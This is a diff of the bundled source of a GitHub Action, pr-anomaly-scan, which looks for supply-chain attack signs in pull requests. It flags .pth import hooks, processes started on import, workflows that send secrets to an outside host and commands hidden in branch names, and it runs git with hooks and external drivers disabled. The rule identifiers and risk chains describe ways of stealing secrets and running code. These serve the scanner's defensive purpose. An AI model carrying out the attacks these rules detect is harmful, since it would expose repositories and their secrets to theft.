-            const inTree = /backend-path/.test(at.text) || Boolean(first(/^\s*backend-path\s*=/));
-            hits.push({
-                rule: rules_RULES.BUILD_BACKEND,
-                line: at,
-                message: inTree
-                    ? 'The build backend is loaded from code inside the repository (`backend-path`).'
-                    : 'The build backend changes.',
-                evidence: text_short(at.text),
-                severity: inTree ? 'high' : 'medium'
-            });
-        }
-    }
-    else if (/^\.pre-commit-config\.ya?ml$/.test(name)) {
-        const at = first(/^\s*-?\s*repo:\s*local\b/);
-        if (at)
-            hits.push({
-                rule: rules_RULES.BUILD_PRECOMMIT_LOCAL,
-                line: at,
-                message: 'A local pre-commit hook runs a command from the repository.',
-                evidence: text_short(at.text)
-            });
-    }
-    else if (/\.pth$/.test(name)) {
-        const at = first(/^\s*import\s/) ?? lines[0];
-        if (at)
-            hits.push({
-                rule: rules_RULES.BUILD_PTH,
-                line: at,
-                message: at.text.trim().startsWith('import')
-                    ? 'The .pth file runs code at interpreter start-up.'
-                    : 'A .pth file was added.',
-                evidence: text_short(at.text),
-                severity: /^\s*import\s/.test(at.text) ? 'high' : 'low'
-            });
-    }
-    else if (/\.py$/.test(name) && (all === undefined || hasKeyword(all, 'process'))) {
-        const at = lines.find((l) => MODULE_LEVEL_START.test(l.text));
-        if (at) {
-            hits.push({
-                rule: rules_RULES.BUILD_IMPORT_PROCESS,
-                line: at,
-                message: 'A process or thread starts at module level, i.e. on import.',
-                evidence: text_short(at.text),
-                severity: /DEVNULL|daemon\s*=\s*True|start_new_session/.test(at.text) || name === '__init__.py' ? 'high' : 'medium'
-            });
-        }
-    }
-    return hits;
-}
-// --- inline suppressions ----------------------------------------------------------------
-const SUPPRESS = /pr-anomaly-scan:\s*ignore\[([a-z0-9/,\s-]+)\](.*)$/;
-/** `pr-anomaly-scan: ignore[rule-id] reason` comments among the given lines. */
-function inlineIgnores(lines) {
-    const out = [];
-    for (const l of lines) {
-        const m = SUPPRESS.exec(l.text);
-        if (!m)
-            continue;
-        out.push({
-            line: l.line,
-            rules: m[1]
-                .split(',')
-                .map((s) => s.trim())
-                .filter(Boolean),
-            reason: m[2].replace(/(-->|\*\/)\s*$/, '').trim()
-        });
-    }
-    return out;
-}
-/** Marks findings suppressed by an ignore on the same line or the line above. */
-function applyInline(findings, ignores, file) {
-    const invalid = ignores.filter((i) => !i.reason);
-    const valid = ignores.filter((i) => i.reason);
-    const out = findings.map((f) => {
-        const line = f.location?.line;
-        if (f.location?.file !== file || line === undefined || f.ruleId === rules_RULES.META_SUPPRESSION.id)
-            return f;
-        const ig = valid.find((i) => (i.line === line || i.line === line - 1) && i.rules.includes(f.ruleId));
-        return ig
-            ? { ...f, suppression: { kind: 'inSource', reason: ig.reason, source: `${file}:${ig.line}` } }
-            : f;
-    });
-    return { findings: out, invalid };
-}
-function hitToFinding(path, h) {
-    return createFinding(h.rule, {
-        message: h.message,
-        severity: h.severity,
-        confidence: h.confidence,
-        location: { file: path, line: h.line.line },
-        evidence: h.evidence,
-        key: h.line.text.trim().slice(0, 500),
-        // The content-hash allowlist matches the line's hash, so an allowed line stays allowed wherever it moves.
-        properties: { ...h.properties, contentSha256: (0,external_node_crypto_.createHash)('sha256').update(h.line.text.trim()).digest('hex') }
-    });
-}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/text.ts
+
+
+
+
 /** Every line rule over one file's added lines. */
 function scanAddedText(file, all = file.added.map((l) => l.text).join('\n')) {
     const lines = file.added;
@@ -24862,6 +24574,14 @@ function scanAddedText(file, all = file.added.map((l) => l.text).join('\n')) {
     ];
     return hits.map((h) => hitToFinding(file.path, h));
 }
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/types.ts
+// What the scan reads from a checkout, and GitIO: the engine's only way to
+// read it. main.ts passes git.ts's implementation; tests may pass another.
+// A leaf: it imports nothing, so the engine and its rules depend on no
+// process-spawning code.
+/** The all-zero blob id git gives the missing side of an added or deleted file. */
+const isNullSha = (s) => /^0+$/.test(s);
 
 ;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/workflows.ts
 // Workflow rules: only what the PR newly introduces (compared with the same
@@ -25075,9 +24795,11 @@ function scanWorkflow(file, baseText, headText) {
 }
 
 ;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/engine.ts
-// The PR scan: diff base...head with git (streamed), run every rule family on
-// what the PR adds, then the metadata and API checks, suppressions and the
-// risk score. Pure apart from the git checkout and the injected API client.
+// The PR scan: diff base...head (streamed, through the injected GitIO), run
+// every rule family on what the PR adds, then the metadata and API checks.
+// Pure over its inputs: git and the API client are injected; suppressions
+// are returned for the shared runner to apply, and the risk score is derived
+// from what stands after them (main.ts, summarise).
 
 
 
@@ -25088,6 +24810,7 @@ function scanWorkflow(file, baseText, headText) {
 
 
 
+const isWorkflowRule = (id) => rules_REGISTRY.get(id)?.group === 'workflow';
 const WORKFLOW = /^\.github\/workflows\/[^/]+\.ya?ml$|(^|\/)action\.ya?ml$/;
 const AUTORUN = /(^|\/)\.vscode\/tasks\.json$|(^|\/)\.devcontainer(\/[^/]+)?\/devcontainer\.json$|(^|\/)\.devcontainer\.json$|(^|\/)\.(claude|gemini|cursor|codex)\/[^/]*\.json$|(^|\/)\.mcp\.json$/;
 /** Files bigger than this are not read whole for the YAML/JSON/manifest rules. */
@@ -25095,18 +24818,22 @@ const MAX_WHOLE_FILE = 2 * 1024 * 1024;
 /** The diff checks that do not run when the diff cannot be read. */
 const DIFF_CHECKS = ['workflow', 'build', 'binary', 'obfuscation', 'unicode', 'deps', 'secrets'];
 async function scanPr(opts) {
+    const { git } = opts;
     const findings = [];
     const notChecked = [];
     const errors = [];
     const notes = [];
     const stats = {};
+    // The ignores the PR adds come first: on a line both cover, theirs is the one reported.
+    const added = [];
+    const workflowSuppressions = [];
     let files = [];
     let commits = [];
     let textLines = 0;
     try {
-        const head = await resolveCommit(opts.repo, opts.head, 'head');
-        const base = await resolveCommit(opts.repo, opts.base, 'base');
-        const from = await mergeBase(opts.repo, base, head);
+        const head = await git.resolveCommit(opts.head, 'head');
+        const base = await git.resolveCommit(opts.base, 'base');
+        const from = await git.mergeBase(base, head);
         // The file list, the commits and the patch stream run at once; the patch is analysed one file at a time.
         const secrets = new SecretCollector();
         const inline = new Map();
@@ -25123,9 +24850,9 @@ async function scanPr(opts) {
             secrets.add(f.path, f.added, all);
         };
         [files, commits] = await Promise.all([
-            listChanges(opts.repo, from, head),
-            listCommits(opts.repo, from, head),
-            streamAddedLines(opts.repo, from, head, onText)
+            git.listChanges(from, head),
+            git.listCommits(from, head),
+            git.streamAddedLines(from, head, onText)
         ]);
         stats['files changed'] = files.length;
         stats.commits = commits.length;
@@ -25136,7 +24863,7 @@ async function scanPr(opts) {
         const whole = files.filter((f) => f.status !== 'deleted' &&
             !f.binary &&
             (WORKFLOW.test(f.path) || isDependencyFile(f.path) || AUTORUN.test(f.path)));
-        const texts = await readTexts(opts.repo, whole.flatMap((f) => [f.oldSha, f.newSha]), MAX_WHOLE_FILE);
+        const texts = await git.readTexts(whole.flatMap((f) => [f.oldSha, f.newSha]), MAX_WHOLE_FILE);
         for (const f of whole) {
             const headText = texts.get(f.newSha);
             if (headText === undefined) {
@@ -25148,8 +24875,10 @@ async function scanPr(opts) {
                 const r = scanWorkflow(f.path, baseText, headText);
                 if (r.error)
                     errors.push(r.error);
+                findings.push(...r.findings);
+                // Ignores anywhere in a workflow cover its workflow findings, not only ignores the PR adds.
                 const ig = inlineIgnores(headText.split('\n').map((text, i) => ({ line: i + 1, text })));
-                findings.push(...applyInline(r.findings, ig, f.path).findings);
+                workflowSuppressions.push(...inlineSuppressions(f.path, ig, isWorkflowRule));
             }
             else if (isDependencyFile(f.path)) {
                 const r = scanDependencies(f.path, baseText, headText);
@@ -25164,13 +24893,13 @@ async function scanPr(opts) {
         // 3. Binaries: magic, entropy and size, streamed.
         const binaries = files.filter((f) => f.binary && f.status !== 'deleted' && !isNullSha(f.newSha) && f.newMode !== '160000');
         const facts = new Map();
-        const oldSizes = await blobSizes(opts.repo, binaries.map((f) => f.oldSha));
-        await collectFacts(opts.repo, binaries, facts, errors);
+        const oldSizes = await git.blobSizes(binaries.map((f) => f.oldSha));
+        await collectFacts(git, binaries, facts, errors);
         // A "binary" without a NUL byte is text that `.gitattributes` (`-diff`, `binary`) hides from the diff,
         // which a PR controls: its added lines get the text rules too.
         const hidden = binaries.filter((f) => facts.get(f.newSha) && !facts.get(f.newSha).hasNul && facts.get(f.newSha).size <= MAX_WHOLE_FILE * 4);
         if (hidden.length) {
-            await streamAddedLines(opts.repo, from, head, onText, hidden.map((f) => f.path));
+            await git.streamAddedLines(from, head, onText, hidden.map((f) => f.path));
             notes.push(`${hidden.length} text file(s) marked binary by .gitattributes were scanned as text: ${hidden
                 .slice(0, 5)
                 .map((f) => f.path)
@@ -25209,24 +24938,19 @@ async function scanPr(opts) {
         stats['binary files'] = binaries.length;
         // 4. Governance files.
         findings.push(...governanceFindings(files.map((f) => f.path), opts.configPath));
-        // 5. Inline suppressions: applied to line findings, each one added by the PR is itself reported.
-        let out = [...findings];
+        // 5. Inline suppressions, for the runner to apply; each one the PR adds is itself reported.
         for (const [file, ignores] of inline) {
-            const r = applyInline(out, ignores, file);
-            out = r.findings;
-            for (const bad of r.invalid)
+            added.push(...inlineSuppressions(file, ignores));
+            for (const bad of ignores.filter((i) => !i.reason))
                 notes.push(`${file}:${bad.line}: inline ignore without a reason is not applied (write \`pr-anomaly-scan: ignore[rule-id] reason\`).`);
             for (const ig of ignores.filter((i) => i.reason)) {
-                out.push(createFinding(rules_RULES.META_SUPPRESSION, {
+                findings.push(createFinding(rules_RULES.META_SUPPRESSION, {
                     message: `The PR adds \`ignore[${ig.rules.join(',')}]\`: ${ig.reason}`,
                     location: { file, line: ig.line },
-                    evidence: `ignore[${ig.rules.join(',')}] ${ig.reason}`,
-                    severity: 'low'
+                    evidence: `ignore[${ig.rules.join(',')}] ${ig.reason}`
                 }));
             }
         }
-        findings.length = 0;
-        findings.push(...out);
         try {
             findings.push(...(await secrets.scan()));
             if (secrets.truncated)
@@ -25265,58 +24989,445 @@ async function scanPr(opts) {
     findings.push(...api.findings);
     notChecked.push(...api.notChecked);
     notes.push(...api.notes);
-    // 7. Content-hash allowlist from the config.
-    const allowed = applyAllowlist(findings, opts.allow, opts.today, notes);
-    const score = riskScore(allowed);
     return {
         rules: rules_REGISTRY.list(),
-        findings: allowed,
+        findings,
         notChecked,
         errors,
         notes,
         stats,
-        score,
+        suppressions: [...added, ...workflowSuppressions],
         target: `${opts.base}...${opts.head}`
     };
 }
-async function collectFacts(repo, binaries, facts, errors) {
-    await streamBlobs(repo, [...new Set(binaries.map((f) => f.newSha))], (sha) => {
+async function collectFacts(git, binaries, facts, errors) {
+    await git
+        .streamBlobs([...new Set(binaries.map((f) => f.newSha))], (sha) => {
         const a = new BlobAnalyser();
         return { chunk: (b) => a.chunk(b), end: () => void facts.set(sha, a.facts()) };
-    }).catch((e) => errors.push(oneLine(e)));
+    })
+        .catch((e) => errors.push(oneLine(e)));
 }
-function applyAllowlist(findings, allow, today, notes) {
-    if (!allow.length)
-        return findings;
-    const expired = new Set();
-    const out = findings.map((f) => {
-        if (f.suppression)
-            return f;
-        const sha = f.properties?.contentSha256;
-        const entry = allow.find((a) => a.sha256 === sha && (!a.rule || a.rule === f.ruleId));
-        if (!entry)
-            return f;
-        if (entry.expires && entry.expires < today) {
-            expired.add(entry);
-            return f;
-        }
-        return {
-            ...f,
-            suppression: {
-                kind: 'external',
-                reason: entry.reason,
-                expires: entry.expires,
-                source: `allow sha256 ${entry.sha256.slice(0, 12)}`
-            }
-        };
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/git.ts
+// Reads a PR's changes from a local checkout with git, streaming, without ever
+// running anything the PR controls: git is spawned with an argv array (no
+// shell), hooks, fsmonitor, external diff drivers and textconv filters off.
+
+
+
+/** Options that stop repository config (which a PR cannot change, but a poisoned cache could) from running programs. */
+const SAFE = [
+    '-c',
+    'core.fsmonitor=',
+    '-c',
+    'core.hooksPath=/dev/null',
+    '-c',
+    'diff.external=',
+    '-c',
+    'core.quotePath=true',
+    '-c',
+    'core.bigFileThreshold=64m',
+    '-c',
+    'diff.renameLimit=2000',
+    '--literal-pathspecs'
+];
+const DIFF_FLAGS = ['--no-ext-diff', '--no-textconv', '--no-color', '-M', '--src-prefix=a/', '--dst-prefix=b/'];
+const GIT_ENV = { GIT_TERMINAL_PROMPT: '0', GIT_OPTIONAL_LOCKS: '0', GIT_CONFIG_NOSYSTEM: '1', LC_ALL: 'C' };
+/** Longest added line kept whole; longer ones are cut (a minified bundle line can be megabytes). */
+const MAX_LINE = 256 * 1024;
+/** Added text kept per file for the content rules; the rest is counted, not kept. */
+const MAX_ADDED_PER_FILE = 8 * 1024 * 1024;
+/** Runs git, feeding stdout chunks to `onData`; resolves when it exits. */
+function git(repo, args, onData, stdin) {
+    return new Promise((resolve, reject) => {
+        const child = (0,external_node_child_process_namespaceObject.spawn)('git', ['-C', repo, ...SAFE, ...args], {
+            env: { ...process.env, ...GIT_ENV },
+            stdio: ['pipe', 'pipe', 'pipe']
+        });
+        let stderr = '';
+        child.stdout.on('data', (b) => onData?.(b));
+        child.stderr.on('data', (b) => {
+            if (stderr.length < 4096)
+                stderr += b.toString();
+        });
+        child.on('error', (e) => reject(new UserError(`cannot run git: ${e.message}`)));
+        child.on('close', (code) => resolve({ code, stderr: stderr.trim() }));
+        child.stdin.on('error', () => undefined);
+        child.stdin.end(stdin ?? '');
     });
-    for (const e of expired)
-        notes.push(`The allowlist entry for sha256 ${e.sha256.slice(0, 12)} expired on ${e.expires}; its findings are reported again.`);
+}
+async function gitText(repo, args) {
+    const chunks = [];
+    const r = await git(repo, args, (b) => chunks.push(b));
+    return { ...r, out: Buffer.concat(chunks).toString('utf8') };
+}
+/** The commit a ref names, or a UserError saying why it is not there. */
+async function resolveCommit(repo, ref, what) {
+    if (!ref || ref.startsWith('-'))
+        throw new UserError(`${what}: '${ref}' is not a commit reference`);
+    const r = await gitText(repo, ['rev-parse', '--verify', '--quiet', '--end-of-options', `${ref}^{commit}`]);
+    if (r.code === 0)
+        return r.out.trim();
+    const inside = await gitText(repo, ['rev-parse', '--is-inside-work-tree']);
+    if (inside.code !== 0)
+        throw new UserError(`${repo} is not a git checkout (${inside.stderr.split('\n')[0] || 'git rev-parse failed'})`);
+    const shallow = (await gitText(repo, ['rev-parse', '--is-shallow-repository'])).out.trim() === 'true';
+    throw new UserError(`${what} commit '${ref}' is not in the checkout${shallow ? ' (shallow clone: check out with fetch-depth: 0)' : ''}`);
+}
+/** The merge base, so the diff is what the PR adds (`base...head`). */
+async function mergeBase(repo, base, head) {
+    const r = await gitText(repo, ['merge-base', base, head]);
+    if (r.code === 0)
+        return r.out.trim();
+    const shallow = (await gitText(repo, ['rev-parse', '--is-shallow-repository'])).out.trim() === 'true';
+    throw new UserError(`no common ancestor of base ${base.slice(0, 12)} and head ${head.slice(0, 12)}${shallow ? ' (shallow clone: check out with fetch-depth: 0)' : ''}`);
+}
+/** Per-file status from `git diff --raw --numstat -z`. */
+async function listChanges(repo, from, to) {
+    const chunks = [];
+    const res = await git(repo, ['diff', '--raw', '--no-abbrev', '--numstat', '-z', ...DIFF_FLAGS, from, to, '--'], (b) => chunks.push(b));
+    if (res.code !== 0)
+        throw new UserError(`git diff failed: ${res.stderr.split('\n')[0]}`);
+    const tokens = Buffer.concat(chunks).toString('utf8').split('\0');
+    const files = [];
+    let i = 0;
+    for (; i < tokens.length && tokens[i].startsWith(':');) {
+        const [oldMode, newMode, oldSha, newSha, st] = tokens[i].slice(1).split(' ');
+        const code = st[0];
+        const two = code === 'R' || code === 'C';
+        const oldPath = tokens[i + 1];
+        const path = two ? tokens[i + 2] : oldPath;
+        i += two ? 3 : 2;
+        const status = code === 'A'
+            ? 'added'
+            : code === 'D'
+                ? 'deleted'
+                : code === 'R'
+                    ? 'renamed'
+                    : code === 'C'
+                        ? 'copied'
+                        : code === 'T'
+                            ? 'typechange'
+                            : 'modified';
+        files.push({
+            status,
+            path,
+            oldPath: two ? oldPath : undefined,
+            oldMode,
+            newMode,
+            oldSha,
+            newSha,
+            binary: false,
+            addedCount: 0,
+            deletedCount: 0
+        });
+    }
+    // numstat follows in the same order: `A\tD\tpath` or `A\tD\t` + old + new for renames.
+    for (const f of files) {
+        const t = tokens[i];
+        if (t === undefined)
+            break;
+        const [a, d, p] = t.split('\t');
+        i += p === '' ? 3 : 1;
+        f.binary = a === '-' && d === '-';
+        f.addedCount = Number(a) || 0;
+        f.deletedCount = Number(d) || 0;
+    }
+    return files;
+}
+/** Splits a byte stream into lines, keeping at most MAX_LINE bytes of each. */
+class LineSplitter {
+    onLine;
+    parts = [];
+    kept = 0;
+    cut = false;
+    constructor(onLine) {
+        this.onLine = onLine;
+    }
+    push(b) {
+        let start = 0;
+        for (let nl = b.indexOf(10, start); nl >= 0; nl = b.indexOf(10, start)) {
+            if (!this.parts.length && nl - start <= MAX_LINE) {
+                this.onLine(b.toString('utf8', start, nl), false); // the common case: a whole line inside one chunk, no copy
+            }
+            else {
+                this.take(b.subarray(start, nl));
+                this.flush();
+            }
+            start = nl + 1;
+        }
+        if (start < b.length)
+            this.take(b.subarray(start));
+    }
+    end() {
+        if (this.kept || this.parts.length)
+            this.flush();
+    }
+    take(b) {
+        const room = MAX_LINE - this.kept;
+        if (b.length > room)
+            this.cut = true;
+        const part = b.length > room ? b.subarray(0, room) : b;
+        if (part.length) {
+            this.parts.push(Buffer.from(part));
+            this.kept += part.length;
+        }
+    }
+    flush() {
+        const line = this.parts.length === 1 ? this.parts[0].toString('utf8') : Buffer.concat(this.parts).toString('utf8');
+        this.onLine(line, this.cut);
+        this.parts = [];
+        this.kept = 0;
+        this.cut = false;
+    }
+}
+/** Undoes git's C-style quoting of unusual paths (`"caf\303\251.py"`). */
+function unquotePath(s) {
+    if (!s.startsWith('"'))
+        return s;
+    const bytes = [];
+    const esc = { n: 10, t: 9, r: 13, a: 7, b: 8, f: 12, v: 11, '"': 34, '\\': 92 };
+    for (let i = 1; i < s.length - 1; i++) {
+        const c = s[i];
+        if (c !== '\\') {
+            bytes.push(...Buffer.from(c, 'utf8'));
+            continue;
+        }
+        const n = s[++i];
+        if (/[0-7]/.test(n)) {
+            bytes.push(parseInt(s.slice(i, i + 3), 8));
+            i += 2;
+        }
+        else
+            bytes.push(esc[n] ?? n.charCodeAt(0));
+    }
+    return Buffer.from(bytes).toString('utf8');
+}
+/**
+ * Streams the added lines of every text file in `from..to` (`-U0` patch) and
+ * calls `onFile` as each file's section ends, so memory holds one file at a time.
+ */
+async function streamAddedLines(repo, from, to, onFile, 
+/** Diff only these paths, as text whatever the attributes say (`--text`). */
+asText) {
+    let current;
+    let nextLine = 0;
+    let kept = 0;
+    const finish = () => {
+        if (current) {
+            onFile(current); // analysed there; nothing here keeps the text
+        }
+        current = undefined;
+    };
+    const splitter = new LineSplitter((line, cut) => {
+        const c = line.charCodeAt(0);
+        if (current && c === 43 /* + */ && !line.startsWith('+++ ')) {
+            if (kept + line.length <= MAX_ADDED_PER_FILE) {
+                current.added.push(cut ? { line: nextLine, text: line.slice(1), cut } : { line: nextLine, text: line.slice(1) });
+                kept += line.length;
+            }
+            else
+                current.addedTruncated = true;
+            nextLine++;
+        }
+        else if (line.startsWith('@@ ')) {
+            const m = /^@@ -\d+(?:,\d+)? \+(\d+)(?:,\d+)? @@/.exec(line);
+            if (m)
+                nextLine = Number(m[1]);
+        }
+        else if (line.startsWith('diff --git ')) {
+            finish();
+        }
+        else if (line.startsWith('+++ ')) {
+            const p = line.slice(4).replace(/\t$/, ''); // git appends a tab to names with spaces
+            if (p !== '/dev/null') {
+                const path = unquotePath(p).replace(/^b\//, '');
+                current = { path, added: [], addedTruncated: false };
+                kept = 0;
+            }
+        }
+    });
+    const args = asText
+        ? ['diff', '-p', '-U0', '--text', ...DIFF_FLAGS, from, to, '--', ...asText]
+        : ['diff', '-p', '-U0', ...DIFF_FLAGS, from, to, '--'];
+    const res = await git(repo, args, (b) => splitter.push(b));
+    splitter.end();
+    finish();
+    if (res.code !== 0)
+        throw new UserError(`git diff failed: ${res.stderr.split('\n')[0]}`);
+}
+/**
+ * Streams blobs through `git cat-file --batch`; `open` is called per blob with
+ * its size and returns where the bytes go. A 1 GB blob never sits in memory.
+ */
+async function streamBlobs(repo, shas, open) {
+    if (!shas.length)
+        return;
+    let header = [];
+    let sink;
+    let left = -1; // bytes of the current blob still to come; -1: reading a header; -2: skipping the newline after a blob
+    const onData = (b) => {
+        let i = 0;
+        while (i < b.length) {
+            if (left === -2) {
+                i++; // the newline git prints after each blob
+                left = -1;
+                continue;
+            }
+            if (left === -1) {
+                const nl = b.indexOf(10, i);
+                if (nl < 0) {
+                    header.push(b.subarray(i));
+                    return;
+                }
+                header.push(b.subarray(i, nl));
+                const h = Buffer.concat(header).toString('utf8');
+                header = [];
+                i = nl + 1;
+                const [sha, type, size] = h.split(' ');
+                if (type === 'missing' || size === undefined)
+                    continue;
+                left = Number(size);
+                sink = open(sha, left);
+                if (left === 0) {
+                    sink?.end();
+                    left = -2;
+                }
+                continue;
+            }
+            const n = Math.min(left, b.length - i);
+            sink?.chunk(b.subarray(i, i + n));
+            i += n;
+            left -= n;
+            if (left === 0) {
+                sink?.end();
+                left = -2;
+            }
+        }
+    };
+    const res = await git(repo, ['cat-file', '--batch'], onData, shas.join('\n') + '\n');
+    if (res.code !== 0)
+        throw new UserError(`git cat-file failed: ${res.stderr.split('\n')[0]}`);
+}
+/** Whole text of small blobs (workflows, manifests), keyed by sha; larger ones are skipped. */
+async function readTexts(repo, shas, maxBytes) {
+    const out = new Map();
+    await streamBlobs(repo, [...new Set(shas.filter((s) => !isNullSha(s)))], (sha, size) => {
+        if (size > maxBytes)
+            return undefined;
+        const parts = [];
+        return { chunk: (b) => parts.push(Buffer.from(b)), end: () => out.set(sha, Buffer.concat(parts).toString('utf8')) };
+    });
     return out;
+}
+async function listCommits(repo, from, to, max = 250) {
+    const r = await gitText(repo, [
+        'log',
+        '--no-show-signature',
+        `--max-count=${max}`,
+        '--format=%H%x00%an%x00%ae%x00%cn%x00%ce%x00%s%x1e',
+        `${from}..${to}`,
+        '--'
+    ]);
+    if (r.code !== 0)
+        return [];
+    return r.out
+        .split('\x1e')
+        .map((s) => s.trim())
+        .filter(Boolean)
+        .map((s) => {
+        const [sha, authorName, authorEmail, committerName, committerEmail, subject] = s.split('\0');
+        return { sha, authorName, authorEmail, committerName, committerEmail, subject };
+    });
+}
+/** Sizes of blobs without reading them (`cat-file --batch-check`). */
+async function blobSizes(repo, shas) {
+    const out = new Map();
+    const want = [...new Set(shas.filter((s) => !isNullSha(s)))];
+    if (!want.length)
+        return out;
+    const chunks = [];
+    await git(repo, ['cat-file', '--batch-check'], (b) => chunks.push(b), want.join('\n') + '\n');
+    for (const line of Buffer.concat(chunks).toString('utf8').split('\n')) {
+        const [sha, type, size] = line.split(' ');
+        if (type === 'blob')
+            out.set(sha, Number(size));
+    }
+    return out;
+}
+/** A file's text at a commit, or undefined when it does not exist there. */
+async function readFileAt(repo, commit, path) {
+    const r = await gitText(repo, ['cat-file', 'blob', `${commit}:${path}`]);
+    return r.code === 0 ? r.out : undefined;
+}
+/** The GitIO of the checkout at `repo`: what main.ts hands the engine. */
+function gitCheckout(repo) {
+    return {
+        resolveCommit: (ref, what) => resolveCommit(repo, ref, what),
+        mergeBase: (base, head) => mergeBase(repo, base, head),
+        listChanges: (from, to) => listChanges(repo, from, to),
+        listCommits: (from, to, max) => listCommits(repo, from, to, max),
+        streamAddedLines: (from, to, onFile, asText) => streamAddedLines(repo, from, to, onFile, asText),
+        readTexts: (shas, maxBytes) => readTexts(repo, shas, maxBytes),
+        blobSizes: (shas) => blobSizes(repo, shas),
+        streamBlobs: (shas, open) => streamBlobs(repo, shas, open),
+        readFileAt: (commit, path) => readFileAt(repo, commit, path)
+    };
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/score.ts
+// The PR's 0-10 risk score: each finding weighs severity × confidence, weak
+// signals are capped so a pile of them cannot look like an attack, and chains
+// of families that make up an attack (GuardDog v3's "capability + threat")
+// add on top: obfuscation + execution, a build change + network, a new
+// workflow + secrets + an outside host.
+
+
+const SEVERITY = { critical: 4, high: 2.5, medium: 1.2, low: 0.4, info: 0.1 };
+const CONFIDENCE = { high: 1, medium: 0.7, low: 0.35 };
+/** Most that low-specificity findings (low/info severity or low confidence) can add together. */
+const WEAK_CAP = 1;
+function riskScore(findings) {
+    const active = findings.filter(isActive);
+    let strong = 0;
+    let weak = 0;
+    for (const f of active) {
+        const w = SEVERITY[f.severity] * CONFIDENCE[f.confidence];
+        if (f.severity === 'low' || f.severity === 'info' || f.confidence === 'low')
+            weak += w;
+        else
+            strong += w;
+    }
+    const family = (f) => rules_REGISTRY.get(f.ruleId)?.group;
+    const has = (pred) => active.some(pred);
+    const chains = [];
+    if (has((f) => f.ruleId === 'obfuscation/encoded-exec' || f.ruleId === 'obfuscation/bundled-js-payload') ||
+        (has((f) => family(f) === 'obfuscation') &&
+            has((f) => f.ruleId === 'build/import-time-process' || f.ruleId === 'build/setup-py'))) {
+        chains.push('obfuscated data reaches code execution');
+    }
+    if (has((f) => family(f) === 'build' && f.properties?.network === true) ||
+        (has((f) => family(f) === 'build') && has((f) => f.ruleId === 'workflow/secrets-to-outside-host'))) {
+        chains.push('build change with network access');
+    }
+    if (has((f) => f.ruleId === 'workflow/secrets-to-outside-host') ||
+        (has((f) => f.ruleId === 'workflow/all-secrets') && has((f) => f.ruleId === 'workflow/dangerous-trigger'))) {
+        chains.push('workflow sends secrets out');
+    }
+    if (has((f) => family(f) === 'binary') && has((f) => f.ruleId === 'build/autotools'))
+        chains.push('opaque test data with a build-script change (xz)');
+    if (has((f) => f.ruleId === 'meta/branch-name-shell' && f.severity === 'critical'))
+        chains.push('command in branch name');
+    const raw = strong + Math.min(weak, WEAK_CAP) + 2.5 * chains.length;
+    // Saturating: the first strong signals move the score most; 10 is reserved for chained evidence.
+    const score = Math.round(Math.min(10, 10 * (1 - Math.exp(-raw / 5))) * 10) / 10;
+    const band = score === 0 ? 'none' : score < 2 ? 'low' : score < 5 ? 'elevated' : score < 8 ? 'high' : 'critical';
+    return { score, band, chains };
 }
 
 ;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/config.schema.json
-const pr_anomaly_scan_config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","title":"The \'pr-anomaly-scan\' section of .github/security-actions.yml","description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object"}');
+const pr_anomaly_scan_config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","title":"The \'pr-anomaly-scan\' section of .github/security-actions.yml","description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object","additionalProperties":false,"properties":{"allow":{"description":"Known fixtures and lines, matched on the SHA-256 of a binary file\'s content or of a finding\'s trimmed source line (`contentSha256` in the JSON report). Each needs a reason; one with an expiry date stops applying after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["sha256","reason"],"properties":{"sha256":{"description":"The content hash: 64 lower-case hex digits.","type":"string","pattern":"^[0-9a-f]{64}$"},"reason":{"description":"Why this content is safe; shown in every report.","type":"string","minLength":1,"pattern":"\\\\S"},"rule":{"description":"Only findings of this rule id (default: any rule).","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"expires":{"description":"Last day (YYYY-MM-DD) the entry applies.","type":"string","pattern":"^\\\\d{4}-(0[1-9]|1[0-2])-(0[1-9]|[12]\\\\d|3[01])$"}}}}}}');
 ;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/main.ts
 // pr-anomaly-scan adapter: read the inputs and event, call the engine, and
 // keep one PR comment up to date.
@@ -25327,39 +25438,9 @@ const pr_anomaly_scan_config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{
 
 
 
+
+
 const COMMENT_MARKER = 'security-actions:pr-anomaly-scan';
-/** The `pr-anomaly-scan:` section of the config: `allow: [{sha256, reason, rule?, expires?}]`. */
-function parseSection(section, file = 'config') {
-    if (!section)
-        return { allow: [] };
-    for (const k of Object.keys(section))
-        if (k !== 'allow')
-            throw new UserError(`${file}: pr-anomaly-scan: unknown key '${k}' (allowed: allow)`);
-    const allow = section.allow ?? [];
-    if (!Array.isArray(allow))
-        throw new UserError(`${file}: pr-anomaly-scan.allow must be a list`);
-    return {
-        allow: allow.map((a, i) => {
-            const at = `${file}: pr-anomaly-scan.allow.${i}`;
-            if (!a || typeof a !== 'object')
-                throw new UserError(`${at} must be a mapping`);
-            if (typeof a.sha256 !== 'string' || !/^[0-9a-f]{64}$/.test(a.sha256))
-                throw new UserError(`${at}.sha256 must be 64 lower-case hex digits`);
-            if (typeof a.reason !== 'string' || !a.reason.trim())
-                throw new UserError(`${at}.reason is required`);
-            if (a.expires !== undefined && !(typeof a.expires === 'string' && /^\d{4}-\d{2}-\d{2}$/.test(a.expires)))
-                throw new UserError(`${at}.expires must be YYYY-MM-DD`);
-            if (a.rule !== undefined && typeof a.rule !== 'string')
-                throw new UserError(`${at}.rule must be a rule id`);
-            return {
-                sha256: a.sha256,
-                reason: a.reason,
-                rule: a.rule,
-                expires: a.expires
-            };
-        })
-    };
-}
 function scorePreamble(s) {
     const chains = s.chains.length ? ` Chained signals: ${s.chains.join('; ')}.` : '';
     return `**Risk score: ${s.score}/10 (${s.band}).**${chains}`;
